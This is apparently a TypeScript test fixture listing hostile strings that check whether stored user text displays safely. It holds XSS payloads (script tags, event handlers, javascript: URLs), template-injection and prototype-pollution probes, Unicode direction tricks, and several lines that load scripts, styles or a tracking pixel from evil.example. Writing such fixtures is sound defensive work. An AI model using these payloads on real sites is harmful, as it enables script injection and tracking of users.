/** Text that people could store and that must be shown as what it is. Each sets `hacked`, or asks a foreign server, where it is not. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>globalThis.hacked=1;alert(1)</script>',
  '"><img src=x onerror="globalThis.hacked=1;alert(1)">',
  "'\" autofocus onfocus=globalThis.hacked=1 x='",
  '<svg onload="globalThis.hacked=1"><animate onbegin=alert(1) attributeName=x dur=1s>',
  'javascript:globalThis.hacked=1//',
  '[click](javascript:globalThis.hacked=1) ![x](https://evil.example/pixel.png)',
  '<iframe src="https://evil.example/"></iframe><link rel=stylesheet href=https://evil.example/a.css>',
  '{{constructor.constructor("globalThis.hacked=1")()}} ${globalThis.hacked=1} #{7*7} <%= 7*7 %>',
  '</textarea></title></style><script src=https://evil.example/a.js></script>',
  '<style>@import url(https://evil.example/b.css);*{background:url(https://evil.example/c)}</style>',
  '\u202Etxt.exe\u202C \u2066left\u2069 \u200Bzero\u200D z\u0335\u0336\u0337algo',
  '{"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}',
  `very long ${'W'.repeat(1_500)} <b onmouseover=alert(1)>end</b>`,
];
